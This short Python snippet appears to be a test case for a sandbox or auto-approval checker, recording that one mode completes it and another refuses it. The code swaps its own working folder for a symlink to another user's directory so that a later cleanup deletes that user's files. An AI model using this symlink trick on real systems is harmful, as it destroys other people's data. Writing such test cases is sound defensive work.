# replaces its own folder with a link to the author's, so that cleaning up empties that | basic: works finished | auto: refused error
import os

open("file", "w").close()
here = os.getcwd()
os.rename(here, VICTIM + ".moved")
os.symlink(VICTIM + ".d", here)
